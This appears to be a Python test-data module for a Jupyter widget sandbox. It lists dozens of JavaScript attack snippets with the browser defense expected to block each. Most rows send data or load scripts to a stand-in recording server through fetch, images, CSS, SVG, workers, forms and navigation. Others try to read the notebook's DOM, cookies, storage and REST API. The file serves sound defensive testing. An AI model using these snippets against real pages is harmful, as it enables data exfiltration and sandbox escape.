"""What a hostile app may try: one row for each attack, run by `test_bare_hostile.py`.

A script runs in the app's document as the body of an async function. It knows `NAME` (the attack's own mark), `AWAY` (a
server that writes down every request), `HOME` (the notebook's origin), `add(tag, attributes)` and `markup(html)` (put an
element into the document and give it back) and `say(message)` (JSON-RPC to the host). An attack that works leaves its
mark where the host sees it: in a request, in the page, in a dialog, in a download, at the kernel. Or it returns what it
has got hold of.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One row.

    Attributes:
        stop: What keeps it from doing harm. `CSP x-src` is proved: the browser must report that directive.
        alone: It may end its document, so it needs one of its own.
        click: It waits for a real click into the app.
        unproved: Why it is not shown to work in a plain iframe; empty if it is.
    """

    name: str
    tries: str
    script: str
    stop: str
    alone: bool = False
    click: bool = False
    unproved: str = ""

    @property
    def row(self) -> str:
        """Its line of SECURITY.md."""
        control = self.unproved or "yes"
        return f"| {self.name} | {self.tries} | {self.stop} | {control} |"

    @property
    def mark(self) -> str:
        return f"~{self.name}~"


def reach(name: str, tries: str, script: str, stop: str = "opaque origin", unproved: str = "") -> Attack:
    """Gets hold of something."""
    return Attack(name=name, tries=tries, script=script, stop=stop, unproved=unproved)


def load(name: str, tries: str, script: str, directive: str, unproved: str = "") -> Attack:
    """Sends something out in the address of what it loads."""
    stop = f"CSP {directive}" if directive.endswith(("-src", "-elem", "-uri")) else directive
    return Attack(name=name, tries=tries, script=script, stop=stop, unproved=unproved)


def leave(name: str, tries: str, script: str, stop: str = "CSP frame-src", **more: str) -> Attack:
    """Goes somewhere else, or makes somebody else go there."""
    return Attack(name=name, tries=tries, script=script, stop=stop, alone=True, unproved=more.get("unproved", ""))


def click(name: str, tries: str, script: str, stop: str = "sandbox", unproved: str = "") -> Attack:
    """Abuses a click of the person."""
    return Attack(name=name, tries=tries, script=script, stop=stop, alone=True, click=True, unproved=unproved)


INSECURE = "a plain frame of this browser does not do it either"

REACHES = [
    reach("parent-dom", "Read the parent's document", "return parent.document.body"),
    reach("top-dom", "Read the notebook's document", "return top.document.body"),
    reach("top-globals", "Read the notebook's variables", "return top.open_widget"),
    reach("write-page", "Write into the notebook's document", "top.document.title = NAME"),
    reach("frame-element", "Get at its own iframe element", "return frameElement"),
    reach("grandparent", "Climb by frames[]", "return top.frames[0].document.documentElement"),
    reach("opener", "Use window.opener or parent.opener", "return top.document.defaultView.closed === false"),
    reach("cookies", "Read the notebook's cookies", "return document.cookie"),
    reach("set-cookie", "Set a cookie for the notebook", "document.cookie = `mark=${NAME}`"),
    reach("cookie-store", "Read cookies by the newer API", "return (await cookieStore.getAll()).length"),
    reach("document-domain", "Relax its origin by document.domain", "document.domain = '127.0.0.1'; return top.document.body"),
    reach("local-storage", "Read what the notebook keeps", "return localStorage.getItem('of-the-page')"),
    reach("write-storage", "Write where the notebook keeps", "localStorage.setItem('mark', NAME)"),
    reach("real-storage", "Dig out the real storage behind the imitation", "return add('iframe').contentWindow.localStorage.getItem('of-the-page')"),
    reach("session-storage", "The same of the session", "return sessionStorage.getItem('of-the-page')"),
    reach("indexed-db", "Open a database of the notebook's", "return await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = () => yes(true); r.onerror = no })"),
    reach("caches", "Open a cache of the notebook's", "return await caches.open('x')"),
    reach("opfs", "Open the origin's private files", "return await navigator.storage.getDirectory()"),
    reach("locks", "Take a lock of the notebook's", "return await navigator.locks.request('x', () => true)"),
    reach("service-worker", "Become the notebook's proxy", "return await navigator.serviceWorker.register(HOME + '/api/worker.js', {scope: HOME + '/api/'})"),
    reach("shared-worker", "Share a worker with the notebook", "return new SharedWorker(HOME + '/api/worker.js')"),
    reach("broadcast", "Talk on a channel of the notebook's", "new BroadcastChannel('of-the-page').postMessage(NAME); await pause(100)"),
    reach("rest-read", "Read Jupyter's REST API", "return (await fetch(`${HOME}/api/contents?${NAME}`)).ok", "CSP connect-src"),
    reach("address", "Learn the notebook's address", "return [document.baseURI, document.referrer].some((text) => text.includes('127.0.0.1'))", "outer base, no-referrer"),
    reach("eval", "Make code from text", "return eval('1')", "CSP script-src"),
    reach("new-function", "The same by Function", "return new Function('return 1')()", "CSP script-src"),
    reach("timeout-string", "The same by setTimeout", "setTimeout('window.made = 1'); await pause(50); return window.made", "CSP script-src"),
    reach("confirm", "Ask in the browser's name", "return confirm(NAME)", "sandbox"),
    reach("prompt", "Ask for a password in the browser's name", "return prompt(NAME) !== null", "sandbox"),
    reach("alert", "Block the page with a box", "alert(NAME)", "sandbox"),
    reach("clipboard-read", "Read the clipboard", "return await navigator.clipboard.readText()", "permissions policy", "asks the person in a plain frame"),
    reach("geolocation", "Learn the position", "return document.featurePolicy.allowsFeature('geolocation')", "permissions policy"),
    reach("camera", "Use the camera", "return document.featurePolicy.allowsFeature('camera')", "permissions policy"),
    reach("microphone", "Use the microphone", "return document.featurePolicy.allowsFeature('microphone')", "permissions policy"),
    reach("screen-capture", "Film the screen", "return document.featurePolicy.allowsFeature('display-capture')", "permissions policy"),
    reach("clipboard-write", "Write to the clipboard", "return document.featurePolicy.allowsFeature('clipboard-write')", "permissions policy"),
    reach("fullscreen-feature", "Cover the screen by itself", "return document.featurePolicy.allowsFeature('fullscreen')", "permissions policy"),
    reach("payment", "Ask for a payment", "return document.featurePolicy.allowsFeature('payment')", "permissions policy"),
    reach("devices", "Reach USB, serial, HID or MIDI devices", "return ['usb', 'serial', 'hid', 'midi'].some((name) => document.featurePolicy.allowsFeature(name))", "permissions policy"),
    reach("sign-in", "Ask for passkeys or identities", "return ['publickey-credentials-get', 'identity-credentials-get', 'otp-credentials'].some((name) => document.featurePolicy.allowsFeature(name))", "permissions policy"),
    reach("sensors", "Read sensors, idleness or fonts", "return ['gyroscope', 'accelerometer', 'idle-detection', 'local-fonts', 'window-management', 'screen-wake-lock'].some((name) => document.featurePolicy.allowsFeature(name))", "permissions policy"),
    reach("picture-in-picture", "Float above all windows", "return document.featurePolicy.allowsFeature('picture-in-picture')", "permissions policy"),
    reach("aria-notify", "Speak in a screen reader's name", "return document.featurePolicy.allowsFeature('aria-notify')", "permissions policy"),
    reach("known-elsewhere", "Use what other sites know of the person", "return ['browsing-topics', 'storage-access', 'private-state-token-redemption'].some((name) => document.featurePolicy.allowsFeature(name))", "permissions policy"),
    reach("protocol-handler", "Take over a URL scheme", "navigator.registerProtocolHandler('web+x', HOME + '/%s'); return true", "opaque origin"),
    reach("shared-memory", "Get shared memory for precise clocks", "return crossOriginIsolated", "not isolated", INSECURE),
    reach("wasm-code", "Make code of WebAssembly", "return await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))", "CSP script-src"),
    reach("storage-buckets", "Keep something in a bucket of the notebook's", "return await navigator.storageBuckets.open('x')", "opaque origin"),
    reach("quota", "Learn how much the notebook keeps", "return (await navigator.storage.estimate()).quota", "opaque origin"),
    reach("storage-access", "Ask for the notebook's storage", "await document.requestStorageAccess(); return true", "sandbox"),
    reach("sibling-dom", "Read another app's document", "return [...Array(top.length).keys()].some((n) => { try { return top[n] !== parent && top[n] !== window && top[n].document } catch { return false } })", "opaque origin"),
    reach("pollute-page", "Pollute the notebook's prototypes", "top.Object.prototype.mark = NAME"),
]  # fmt: skip

JUPYTER = [
    load("rest", "Call Jupyter's REST API", "await fetch(`${HOME}/api/contents?${NAME}`, {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x'})", "connect-src"),
    load("rest-xhr", "The same by XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', `${HOME}/api/sessions?${NAME}`); x.withCredentials = true; x.send()", "connect-src"),
    load("kernel-socket", "Open the kernel's websocket", "new WebSocket(`${HOME.replace('http', 'ws')}/api/kernels/1/channels?${NAME}`)", "connect-src"),
    load("rest-image", "Get at an API address by an image", "add('img', {src: `${HOME}/api/shutdown?${NAME}`})", "img-src"),
    load("rest-events", "Listen to the server's events", "new EventSource(`${HOME}/api/events?${NAME}`)", "connect-src"),
    load("rest-frame", "Show the notebook in a frame", "add('iframe', {src: `${HOME}/api/lab?${NAME}`})", "frame-src"),
    load("rest-script", "Read an API answer as a script", "add('script', {src: `${HOME}/api/me?${NAME}`})", "script-src-elem"),
]  # fmt: skip

LOADS = [
    load("fetch", "fetch", "await fetch(`${AWAY}/${NAME}`, {mode: 'no-cors'})", "connect-src"),
    load("fetch-keepalive", "fetch that outlives the page", "await fetch(`${AWAY}/${NAME}`, {mode: 'no-cors', keepalive: true})", "connect-src"),
    load("fetch-later", "fetchLater", "fetchLater(`${AWAY}/${NAME}`, {activateAfter: 0})", "inherited policy", "wants https"),
    load("xhr", "XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', `${AWAY}/${NAME}`); x.send()", "connect-src"),
    load("beacon", "sendBeacon", "navigator.sendBeacon(`${AWAY}/${NAME}`, 'x')", "connect-src"),
    load("websocket", "WebSocket", "new WebSocket(`${AWAY.replace('http', 'ws')}/${NAME}`)", "connect-src"),
    load("event-source", "EventSource", "new EventSource(`${AWAY}/${NAME}`)", "connect-src"),
    load("web-transport", "WebTransport", "new WebTransport(`${AWAY.replace('http', 'https')}/${NAME}`)", "connect-src", "needs an HTTP/3 server"),
    load("img", "An image", "add('img', {src: `${AWAY}/${NAME}`})", "img-src"),
    load("new-image", "An image outside the document", "new Image().src = `${AWAY}/${NAME}`", "img-src"),
    load("srcset", "A picture's srcset", "markup(`<picture><source srcset='${AWAY}/${NAME}'><img src='data:,'></picture>`)", "img-src"),
    load("inner-html", "Markup in a string", "markup(`<p><img src='${AWAY}/${NAME}'></p>`)", "img-src"),
    load("document-write", "Markup by document.write", "const f = add('iframe'); f.contentDocument.write(`<img src='${AWAY}/${NAME}'>`)", "inherited policy"),
    load("template", "Markup in a shadow tree", "add('p').attachShadow({mode: 'closed'}).innerHTML = `<img src='${AWAY}/${NAME}'>`", "img-src"),
    load("input-image", "An image button", "add('input', {type: 'image', src: `${AWAY}/${NAME}`})", "img-src"),
    load("body-background", "A table's background", "add('table', {background: `${AWAY}/${NAME}`}).innerHTML = '<td>x'", "img-src"),
    load("svg-image", "An SVG image", "markup(`<svg><image href='${AWAY}/${NAME}'/></svg>`)", "img-src"),
    load("svg-fe-image", "An SVG filter's image", "markup(`<svg><filter id=f><feImage href='${AWAY}/${NAME}'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>`)", "img-src"),
    load("video", "A video", "add('video', {src: `${AWAY}/${NAME}`, preload: 'auto'})", "media-src"),
    load("poster", "A video's poster", "add('video', {poster: `${AWAY}/${NAME}`})", "img-src"),
    load("audio", "A sound", "new Audio(`${AWAY}/${NAME}`).load()", "media-src"),
    load("source", "A source of a sound", "markup(`<audio preload=auto><source src='${AWAY}/${NAME}'></audio>`)", "media-src"),
    load("track", "Subtitles", "markup(`<video crossorigin><track default kind=subtitles src='${AWAY}/${NAME}'></video>`).firstElementChild.track.mode = 'showing'", "media-src"),
    load("script", "A script", "add('script', {src: `${AWAY}/${NAME}`})", "script-src-elem"),
    load("module", "A module", "add('script', {type: 'module', src: `${AWAY}/${NAME}`})", "script-src-elem"),
    load("import", "import()", "await import(`${AWAY}/${NAME}`)", "script-src-elem"),
    load("static-import", "An import in an inline module", "add('script', {type: 'module'}).textContent = `import '${AWAY}/${NAME}'`", "script-src-elem", "its text comes too late in both"),
    load("svg-script", "A script in SVG", "const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.setAttribute('href', `${AWAY}/${NAME}`); document.body.append(s)", "script-src-elem"),
    load("modulepreload", "link rel=modulepreload", "add('link', {rel: 'modulepreload', href: `${AWAY}/${NAME}`})", "script-src-elem"),
    load("stylesheet", "link rel=stylesheet", "add('link', {rel: 'stylesheet', href: `${AWAY}/${NAME}`})", "style-src-elem"),
    load("preload", "link rel=preload", "add('link', {rel: 'preload', as: 'image', href: `${AWAY}/${NAME}`})", "img-src"),
    load("preload-fetch", "link rel=preload of data", "add('link', {rel: 'preload', as: 'fetch', href: `${AWAY}/${NAME}`})", "connect-src"),
    load("prefetch", "link rel=prefetch", "add('link', {rel: 'prefetch', href: `${AWAY}/${NAME}`})", "default-src"),
    load("manifest", "link rel=manifest", "add('link', {rel: 'manifest', href: `${AWAY}/${NAME}`})", "inherited policy", "only of a page, not of a frame"),
    load("css-import", "@import", "add('style').textContent = `@import url('${AWAY}/${NAME}')`", "style-src-elem"),
    load("css-image", "A background", "add('p').style.background = `url('${AWAY}/${NAME}')`", "img-src"),
    load("css-list", "A list's image", "markup('<ul><li>x</ul>').style.listStyleImage = `url('${AWAY}/${NAME}')`", "img-src"),
    load("css-border", "A border's image", "add('p').style.borderImage = `url('${AWAY}/${NAME}') 30`", "img-src"),
    load("css-content", "Generated content", "add('style').textContent = `body::after { content: url('${AWAY}/${NAME}') }`", "img-src"),
    load("css-mask", "A mask", "add('p').style.maskImage = `url('${AWAY}/${NAME}')`", "img-src"),
    load("css-set", "image-set()", "add('p').style.background = `image-set('${AWAY}/${NAME}' 1x)`", "img-src"),
    load("css-cursor", "A cursor", "add('p').style.cursor = `url('${AWAY}/${NAME}'), auto`", "img-src"),
    load("font-face", "@font-face", "add('style').textContent = `@font-face { font-family: x; src: url('${AWAY}/${NAME}') } .x { font-family: x }`; add('p', {class: 'x'}).textContent = 'x'", "font-src"),
    load("font-api", "A FontFace object", "await new FontFace('y', `url(${AWAY}/${NAME})`).load()", "font-src"),
    load("object", "object", "add('object', {data: `${AWAY}/${NAME}`})", "object-src"),
    load("embed", "embed", "add('embed', {src: `${AWAY}/${NAME}`})", "object-src"),
    load("iframe", "A frame", "add('iframe', {src: `${AWAY}/${NAME}`})", "frame-src"),
    load("frame-sandbox", "A frame with a sandbox of its own that allows more", "add('iframe', {sandbox: 'allow-scripts allow-same-origin allow-top-navigation allow-popups', src: `${AWAY}/${NAME}`})", "frame-src"),
    load("frameset", "frame in a frameset", "const f = add('iframe', {srcdoc: `<frameset><frame src='${AWAY}/${NAME}'></frameset>`})", "frame-src"),
    load("data-frame", "A frame from a data: address that loads", "add('iframe', {src: `data:text/html,<img src='${AWAY}/${NAME}'>`})", "frame-src"),
    load("blob-frame", "A frame from a blob: address that loads", "add('iframe', {src: URL.createObjectURL(new Blob([`<img src='${AWAY}/${NAME}'>`], {type: 'text/html'}))})", "frame-src"),
    load("srcdoc-frame", "A frame in the frame that loads", "add('iframe', {srcdoc: `<img src='${AWAY}/${NAME}'>`})", "img-src"),
    load("blank-frame", "A blank frame that fetches for it", "const f = add('iframe'); await f.contentWindow.fetch(`${AWAY}/${NAME}`, {mode: 'no-cors'})", "inherited policy"),
    load("srcdoc-leaves", "A frame in the frame that goes elsewhere", "add('iframe', {srcdoc: `<script>location = '${AWAY}/${NAME}'</scr` + 'ipt>'})", "frame-src"),
    load("srcdoc-refresh", "A frame in the frame that is refreshed elsewhere", "add('iframe', {srcdoc: `<meta http-equiv=refresh content='0;url=${AWAY}/${NAME}'>`})", "frame-src"),
    load("named-frame", "window.open into a frame of its own", "add('iframe', {name: 'mine'}); open(`${AWAY}/${NAME}`, 'mine')", "frame-src"),
    load("worker", "A worker that fetches", "new Worker(URL.createObjectURL(new Blob([`fetch('${AWAY}/${NAME}', {mode: 'no-cors'})`])))", "inherited policy"),
    load("worker-import", "A worker that imports", "new Worker(URL.createObjectURL(new Blob([`try { importScripts('${AWAY}/${NAME}') } catch {}`])))", "inherited policy"),
    load("worker-url", "A worker from elsewhere", "new Worker(`${HOME}/api/${NAME}`)", "opaque origin"),
    load("worklet", "A worklet from elsewhere", "await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(`${AWAY}/${NAME}`)", "inherited policy"),
    load("speculation", "Speculation rules", "add('script', {type: 'speculationrules'}).textContent = JSON.stringify({prefetch: [{urls: [`${AWAY}/${NAME}`], eagerness: 'immediate'}]})", "inherited policy", "only of a page, not of a frame"),
    load("base", "A base for all that is relative", "document.head.append(Object.assign(document.createElement('base'), {href: AWAY})); add('img', {src: NAME})", "base-uri"),
    load("csp-report", "A policy that reports to it", "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${AWAY}/${NAME}`})); add('img', {src: 'data:image/png,x'})", "a document may not set it", "a document may not set it"),
    load("csp-loosen", "A policy that allows all", "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'Content-Security-Policy', content: 'img-src *'})); add('img', {src: `${AWAY}/${NAME}`})", "img-src"),
]  # fmt: skip

WORKERS = [
    load("data-worker", "A worker from a data: address", "new Worker(`data:text/javascript,fetch('${AWAY}/${NAME}', {mode: 'no-cors'})`)", "inherited policy"),
    load("data-worker-import", "Such a worker that imports", "new Worker(`data:text/javascript,importScripts('${AWAY}/${NAME}')`)", "inherited policy"),
    load("module-worker", "A worker that is a module and imports", "new Worker(URL.createObjectURL(new Blob([`import '${AWAY}/${NAME}'`], {type: 'text/javascript'})), {type: 'module'})", "inherited policy"),
    load("nested-worker", "A worker of a worker", "new Worker(URL.createObjectURL(new Blob([`new Worker(URL.createObjectURL(new Blob([\"fetch('${AWAY}/${NAME}', {mode: 'no-cors'})\"])))`])))", "inherited policy"),
    load("worker-socket", "A worker's WebSocket", "new Worker(URL.createObjectURL(new Blob([`new WebSocket('${AWAY.replace('http', 'ws')}/${NAME}')`])))", "inherited policy"),
    load("worker-xhr", "A worker's XMLHttpRequest", "new Worker(URL.createObjectURL(new Blob([`const x = new XMLHttpRequest(); x.open('GET', '${AWAY}/${NAME}'); x.send()`])))", "inherited policy"),
    load("shared-worker-blob", "A shared worker from a blob: address", "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${AWAY}/${NAME}', {mode: 'no-cors'})`], {type: 'text/javascript'})))", "inherited policy"),
    load("shared-worker-data", "A shared worker from a data: address", "new SharedWorker(`data:text/javascript,fetch('${AWAY}/${NAME}', {mode: 'no-cors'})`)", "inherited policy", INSECURE),
    load("paint-worklet", "A worklet that paints", "await CSS.paintWorklet.addModule(`${AWAY}/${NAME}`)", "inherited policy"),
]  # fmt: skip

MODULES = [
    load("import-map", "An import map", "const m = Object.assign(document.createElement('script'), {type: 'importmap', textContent: JSON.stringify({imports: {[NAME]: `${AWAY}/${NAME}`}})}); document.body.append(m); await import(NAME)", "script-src-elem"),
    load("json-module", "A JSON module", "await import(`${AWAY}/${NAME}`, {with: {type: 'json'}})", "connect-src"),
    load("css-module", "A CSS module", "await import(`${AWAY}/${NAME}`, {with: {type: 'css'}})", "style-src-elem"),
    load("text-module", "A text module", "await import(`${AWAY}/${NAME}`, {with: {type: 'text'}})", "connect-src"),
    load("wasm", "WebAssembly from elsewhere", "await WebAssembly.compileStreaming(fetch(`${AWAY}/${NAME}`))", "connect-src"),
    load("web-bundle", "A web bundle", "document.body.append(Object.assign(document.createElement('script'), {type: 'webbundle', textContent: JSON.stringify({source: `${AWAY}/${NAME}`, resources: [`${AWAY}/x`]})})); add('img', {src: `${AWAY}/x`})", "connect-src"),
    load("payment-manifest", "A payment method's manifest", "await new PaymentRequest([{supportedMethods: `${AWAY}/${NAME}`}], {total: {label: 'x', amount: {currency: 'USD', value: '1'}}}).canMakePayment()", "permissions policy"),
    load("prerender", "Speculation rules that draw a page ahead, and that follow the document's links", "add('a', {href: `${AWAY}/${NAME}`}); for (const rules of [{prerender: [{urls: [`${AWAY}/${NAME}`], eagerness: 'immediate'}]}, {prefetch: [{where: {href_matches: '/*'}, eagerness: 'immediate'}]}]) add('script', {type: 'speculationrules'}).textContent = JSON.stringify(rules)", "inherited policy", "only of a page, not of a frame"),
]  # fmt: skip

OTHER_PRELOADS = [
    "audio",
    "audioworklet",
    "document",
    "embed",
    "json",
    "manifest",
    "object",
    "paintworklet",
    "report",
    "serviceworker",
    "sharedworker",
    "video",
    "worker",
    "xslt",
]
OTHER_RELATIONS = [
    "icon",
    "apple-touch-icon",
    "apple-touch-startup-image",
    "mask-icon",
    "prerender",
    "next",
    "subresource",
    "import",
    "search",
    "pingback",
    "help",
    "license",
    "alternate",
    "amphtml",
    "dictionary",
    "monetization",
    "payment",
]

LINKS = [
    *(load(f"preload-{kind}", f"link rel=preload as={kind}", f"add('link', {{rel: 'preload', as: '{kind}', crossorigin: '', href: `${{AWAY}}/${{NAME}}`}})", directive)
      for kind, directive in {"font": "font-src", "script": "script-src-elem", "style": "style-src-elem", "track": "media-src"}.items()),
    load("preload-set", "link rel=preload of a picture's srcset", "add('link', {rel: 'preload', as: 'image', imagesrcset: `${AWAY}/${NAME} 1x`})", "img-src"),
    load("preload-others", f"link rel=preload of {len(OTHER_PRELOADS)} more kinds", f"for (const as of {OTHER_PRELOADS}) add('link', {{rel: 'preload', as, crossorigin: '', href: `${{AWAY}}/${{NAME}}`}})", "inherited policy", INSECURE),
    load("other-stylesheet", "link rel='alternate stylesheet'", "add('link', {rel: 'alternate stylesheet', title: 'x', href: `${AWAY}/${NAME}`})", "style-src-elem"),
    load("compression-dictionary", "link rel=compression-dictionary", "add('link', {rel: 'compression-dictionary', href: `${AWAY}/${NAME}`})", "connect-src"),
    load("relations", f"{len(OTHER_RELATIONS)} more relations of links", f"for (const rel of {OTHER_RELATIONS}) add('link', {{rel, href: `${{AWAY}}/${{NAME}}`}})", "inherited policy", "only of a page, not of a frame"),
]  # fmt: skip

DRAWINGS = [
    load("xml-stylesheet", "An XML document with a stylesheet", "add('iframe', {src: URL.createObjectURL(new Blob([`<?xml-stylesheet type='text/css' href='${AWAY}/${NAME}'?><a/>`], {type: 'text/xml'}))})", "frame-src"),
    load("xslt", "XSLT: a stylesheet, an import, a document()", "const xml = (text) => new DOMParser().parseFromString(text, 'text/xml'); add('iframe', {src: URL.createObjectURL(new Blob([`<?xml-stylesheet type='text/xsl' href='${AWAY}/${NAME}'?><a/>`], {type: 'text/xml'}))}); for (const rule of [`<xsl:import href='${AWAY}/${NAME}'/>`, `<xsl:template match='/'><p><xsl:copy-of select=\"document('${AWAY}/${NAME}')\"/></p></xsl:template>`]) { const x = new XSLTProcessor(); x.importStylesheet(xml(`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>${rule}</xsl:stylesheet>`)); x.transformToFragment(xml('<a/>'), document) }", "inherited policy", INSECURE),
    load("dtd", "A DTD and an entity of XML", "for (const text of [`<!DOCTYPE a SYSTEM '${AWAY}/${NAME}'><a/>`, `<!DOCTYPE a [<!ENTITY e SYSTEM '${AWAY}/${NAME}'>]><a>&e;</a>`]) { new DOMParser().parseFromString(text, 'text/xml'); add('iframe', {src: URL.createObjectURL(new Blob([text], {type: 'text/xml'}))}) }", "inherited policy", INSECURE),
    *(load(f"svg-{name}", f"SVG: {attribute}", f"markup(`<svg><path d='M0 0L9 9' {attribute}='url(${{AWAY}}/${{NAME}}#a)'/></svg>`)", "img-src")
      for name, attribute in {"fill": "fill", "masked": "mask", "clip": "clip-path", "marker": "marker-start"}.items()),
    load("svg-set", "SVG that changes an address", "markup(`<svg><image href='data:,'><set attributeName='href' to='${AWAY}/${NAME}'/></image></svg>`)", "img-src"),
    load("svg-style", "A style in SVG", "markup(`<svg><style>@import '${AWAY}/${NAME}';</style></svg>`)", "style-src-elem"),
    load("svg-foreign", "HTML in SVG", "markup(`<svg><foreignObject width=9 height=9><img src='${AWAY}/${NAME}'></foreignObject></svg>`)", "img-src"),
    load("svg-object", "SVG as an object that loads", "add('object', {data: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns='http://www.w3.org/2000/svg'><image href='${AWAY}/${NAME}'/></svg>`)}`})", "object-src"),
    load("svg-references", "SVG: what refers to parts of other documents, and SVG as an image", "markup(`<svg><use href='${AWAY}/${NAME}#a'/><linearGradient id=g href='${AWAY}/${NAME}#a'/><pattern id=h href='${AWAY}/${NAME}#a'/><path d='M0 0L9 9' fill='url(#g)' stroke='url(#h)' filter='url(${AWAY}/${NAME}#a)'/><text><textPath href='${AWAY}/${NAME}#a'>x</textPath></text></svg>`); add('img', {src: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns='http://www.w3.org/2000/svg'><image href='${AWAY}/${NAME}'/></svg>`)}`})", "inherited policy", INSECURE),
    load("css-clip", "A clip path", "add('p').style.clipPath = `url('${AWAY}/${NAME}#a')`", "img-src"),
    load("css-shape", "A shape that text flows round", "add('p').style.cssText = `float: left; width: 9px; height: 9px; shape-outside: url('${AWAY}/${NAME}')`", "img-src"),
    load("css-fade", "Images that fade into each other", "add('p').style.background = `-webkit-cross-fade(url('${AWAY}/${NAME}'), url('data:,'), 50%)`", "img-src"),
    load("css-variable", "A variable of CSS", "add('style').textContent = `.v { --x: url('${AWAY}/${NAME}'); background: var(--x) }`; add('p', {class: 'v'})", "img-src"),
    load("css-sheet", "A stylesheet made by script", "const s = new CSSStyleSheet(); s.replaceSync(`.s { background: url('${AWAY}/${NAME}') }`); document.adoptedStyleSheets.push(s); add('p', {class: 's'})", "img-src"),
    load("css-selector", "CSS that reads a field", "add('input', {value: 'secret'}); add('style').textContent = `input[value^=s] { background: url('${AWAY}/${NAME}') }`", "img-src"),
    load("css-layer", "@import into a layer, if something is supported", "add('style').textContent = `@import url('${AWAY}/${NAME}') layer(x) supports(display: block)`", "style-src-elem"),
    load("lazy-image", "An image that loads when it is seen", "add('img', {loading: 'lazy', src: `${AWAY}/${NAME}`})", "img-src"),
    load("parsed", "Markup by Document.parseHTMLUnsafe", "document.body.append(Document.parseHTMLUnsafe(`<img src='${AWAY}/${NAME}'>`).body.firstChild)", "img-src"),
    load("adopted", "A node out of another document", "const d = document.implementation.createHTMLDocument(); d.body.innerHTML = `<img src='${AWAY}/${NAME}'>`; document.body.append(document.adoptNode(d.body.firstChild))", "img-src"),
    load("edited", "Markup by execCommand", "add('div', {contenteditable: ''}).focus(); document.execCommand('insertHTML', false, `<img src='${AWAY}/${NAME}'>`)", "img-src"),
    load("declared-shadow", "A shadow tree in markup", "add('div').setHTMLUnsafe(`<div><template shadowrootmode=open><img src='${AWAY}/${NAME}'></template></div>`)", "img-src"),
    load("odd-addresses", "Addresses that few read: a map of sources, reports, attribution, a manifest of HTML, a notification's icon", "add('script').textContent = `1\\n//# sourceMappingURL=${AWAY}/${NAME}`; add('meta', {'http-equiv': 'Report-To', content: JSON.stringify({group: 'x', max_age: 1, endpoints: [{url: `${AWAY}/${NAME}`}]})}); add('img', {attributionsrc: `${AWAY}/${NAME}`, longdesc: `${AWAY}/${NAME}`, src: 'data:,'}); document.documentElement.setAttribute('manifest', `${AWAY}/${NAME}`); new Notification('x', {icon: `${AWAY}/${NAME}`})", "inherited policy", INSECURE),
]  # fmt: skip

LEAVES = [
    leave("location", "location =", "location = `${AWAY}/${NAME}`"),
    leave("location-replace", "location.replace", "location.replace(`${AWAY}/${NAME}`)"),
    leave("location-assign", "location.href of a frame above by a clone", "Reflect.set(location, 'href', `${AWAY}/${NAME}`)"),
    leave("navigation-api", "navigation.navigate", "await navigation.navigate(`${AWAY}/${NAME}`).finished"),
    leave("link", "A link", "add('a', {href: `${AWAY}/${NAME}`}).click()"),
    leave("ping", "A link's ping", "add('a', {href: 'about:blank', target: 'x', ping: `${AWAY}/${NAME}`}).click()", "CSP connect-src"),
    leave("svg-link", "A link in SVG", "markup(`<svg><a href='${AWAY}/${NAME}'><text>x</text></a></svg>`).firstElementChild.dispatchEvent(new MouseEvent('click', {bubbles: true}))"),
    leave("area", "An image map", "markup(`<map><area href='${AWAY}/${NAME}'></map>`).firstElementChild.click()"),
    leave("meta-refresh", "meta refresh", "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: `0;url=${AWAY}/${NAME}`}))"),
    leave("open-self", "window.open into itself", "open(`${AWAY}/${NAME}`, '_self')"),
    leave("form", "A form", "add('form', {action: `${AWAY}/${NAME}`}).submit()", "CSP frame-src"),
    leave("form-post", "A form that posts", "const f = add('form', {action: `${AWAY}/${NAME}`, method: 'post'}); f.innerHTML = '<input name=secret value=1>'; f.requestSubmit()", "CSP frame-src"),
    leave("form-button", "A button's formaction", "const f = add('form'); f.innerHTML = `<button formaction='${AWAY}/${NAME}'>`; f.firstElementChild.click()", "CSP frame-src"),
    leave("form-jupyter", "A form posted to Jupyter's REST API", "add('form', {action: `${HOME}/api/contents?${NAME}`, method: 'post'}).submit()", "CSP frame-src"),
    leave("home", "Show the notebook's own pages in its place", "location = `${HOME}/api/lab?${NAME}`"),
    leave("data-self", "A data: document in its place", "location = `data:text/html,<img src='${AWAY}/${NAME}'>`"),
    leave("blob-self", "A blob: document in its place", "location = URL.createObjectURL(new Blob([`<img src='${AWAY}/${NAME}'>`], {type: 'text/html'}))"),
    leave("javascript-self", "A javascript: address that writes a new document", "location = `javascript:'<img src=${AWAY}/${NAME}>'`", "inherited policy"),
    leave("mailto", "Start another program", "location = `mailto:x@${NAME}`", "CSP frame-src", unproved="no program to start here"),
    leave("top-location", "Take the notebook elsewhere", "top.location = `${AWAY}/${NAME}`", "sandbox"),
    leave("top-replace", "The same by replace", "top.location.replace(`${AWAY}/${NAME}`)", "sandbox"),
    leave("top-hash", "Change the notebook's fragment", "top.location.hash = NAME", "sandbox"),
    leave("parent-location", "Take the frame above elsewhere", "parent.location = `${AWAY}/${NAME}`", "sandbox"),
    leave("top-javascript", "A javascript: address for the notebook", "top.location = `javascript:void(document.title = '${NAME}')`", "sandbox"),
    leave("link-top", "A link for the notebook", "add('a', {href: `${AWAY}/${NAME}`, target: '_top'}).click()", "sandbox"),
    leave("link-parent", "A link for the frame above", "add('a', {href: `${AWAY}/${NAME}`, target: '_parent'}).click()", "sandbox"),
    leave("form-top", "A form for the notebook", "add('form', {action: `${AWAY}/${NAME}`, target: '_top'}).submit()", "sandbox"),
